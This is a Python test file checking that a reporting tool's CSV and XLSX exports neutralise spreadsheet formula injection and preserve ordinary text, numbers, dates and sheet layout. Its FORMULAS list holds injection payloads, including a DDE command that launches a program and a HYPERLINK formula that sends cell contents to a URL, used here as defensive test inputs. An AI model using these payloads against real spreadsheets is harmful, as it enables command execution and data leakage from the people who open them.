"""CSV and XLSX: text that a spreadsheet would run stays text, and everything that goes in comes out."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook
from small_team import small_report

from q4c_cli.model.finding import UsageProblem
from q4c_cli.report.sheets.separated import as_csv
from q4c_cli.report.sheets.sheet import Cell, Sheet, sheet
from q4c_cli.report.sheets.workbook import LONGEST, as_xlsx
from q4c_cli.report.team.documents import sheets

FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff20SUM(1)",
    "-",
]
WORDS = [
    "plain",
    "a = b",
    'he said "no", twice',
    "one\nline and another",
    "Siân, Ŵyn, 大, 🙂",
    "_x0041_ and {=1}",
    "http://example.org/page",
    "mailto:someone@example.org",
    "007",
    "2026-10-14",
    "TRUE",
    "'quoted",
    "",
]


def table(*cells: Cell) -> Sheet:
    return sheet("words", "Words", ("cell", "other"), ((cell, "x") for cell in cells))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_file_begins_a_formula(text: str) -> None:
    _, (cell, _) = csv.reader(StringIO(as_csv(table(text)), newline=""))
    assert cell == f"'{text}"


def test_other_text_comes_out_of_csv_as_it_went_in() -> None:
    read = list(csv.reader(StringIO(as_csv(table(*WORDS)), newline="")))
    assert read[0] == ["cell", "other"]
    assert [cell for cell, _ in read[1:]] == WORDS


def test_numbers_days_and_nothing_in_csv() -> None:
    text = as_csv(table(3, -3, 0.75, -0.5, True, False, date(2026, 10, 14), None))
    assert text.splitlines()[1:] == ["3,x", "-3,x", "0.75,x", "-0.5,x", "true,x", "false,x", "2026-10-14,x", ",x"]


def test_text_is_text_in_a_workbook_whatever_it_begins_with() -> None:
    read = load_workbook(BytesIO(as_xlsx((table(*FORMULAS, *WORDS),))))["words"]
    cells = [row[0] for row in read.iter_rows(min_row=2)]
    for cell, said in zip(cells, [*FORMULAS, *WORDS], strict=True):
        assert (cell.value or "").replace("\r\n", "\n").replace("_x000D_", "\r") == said
        assert cell.data_type == "s" or said == ""
        assert cell.hyperlink is None


def test_numbers_and_days_are_such_in_a_workbook() -> None:
    book = as_xlsx((table(3, 0.75, True, date(2026, 10, 14), None),))
    cells = [row[0] for row in load_workbook(BytesIO(book))["words"].iter_rows(min_row=2)]
    assert [c.value for c in cells] == [3, 0.75, True, datetime(2026, 10, 14), None]  # noqa: DTZ001
    assert [c.number_format for c in cells[:4]] == ["General", "0.0%", "General", "yyyy-mm-dd"]


@pytest.mark.parametrize("letter", ["a", "🙂"])
def test_what_does_not_fit_in_a_cell_is_cut_and_says_so(letter: str) -> None:
    wide = len(letter.encode("utf-16-le")) // 2
    fits = letter * (LONGEST // wide)
    rows = load_workbook(BytesIO(as_xlsx((table(fits, fits + letter),))))["words"]
    whole, cut = (rows.cell(row, 1).value for row in (2, 3))
    assert whole == fits
    assert str(cut).endswith("… (the rest does not fit in a cell)")
    assert len(str(cut).encode("utf-16-le")) // 2 <= LONGEST


def test_a_report_in_a_workbook_has_a_sheet_for_each_table() -> None:
    made = sheets(small_report("0123456789ab"))
    book = load_workbook(BytesIO(as_xlsx(made)))
    assert book.sheetnames == [each.name for each in made]
    for each in made:
        rows = list(book[each.name].iter_rows(values_only=True))
        assert rows[0] == each.columns
        assert len(rows) - 1 == len(each.rows)
        assert book[each.name].freeze_panes == "A2"
    assert book.properties.created == datetime(2000, 1, 1)  # noqa: DTZ001


def test_more_rows_than_a_workbook_holds_are_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("q4c_cli.report.sheets.workbook.MOST_ROWS", 2)
    assert as_xlsx((table(1, 2),))
    with pytest.raises(UsageProblem, match=r"^words has more rows"):
        as_xlsx((table(1, 2, 3),))


def test_the_json_and_the_sheets_agree() -> None:
    from q4c_cli.report.plain import as_json

    said = json.loads(as_json(small_report()))
    audits = {s.name: s for s in sheets(small_report())}["audits"]
    assert [row[0] for row in audits.rows] == [line["audit"] for line in said["audits"]]
